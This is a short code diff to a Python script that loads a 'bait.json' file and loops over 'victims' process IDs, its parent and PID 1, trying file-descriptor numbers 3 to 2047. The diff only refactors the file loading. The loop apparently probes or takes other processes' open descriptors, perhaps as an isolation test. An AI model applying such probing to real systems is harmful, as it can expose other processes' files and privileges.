@@ -4,8 +4,7 @@
 import json
 import os
 
-with open("bait.json") as file:
-    bait = json.load(file)
+bait = json.load(open("bait.json"))
 for pid in (*bait["victims"], os.getppid(), 1):
     for number in range(3, 2048):
         try:
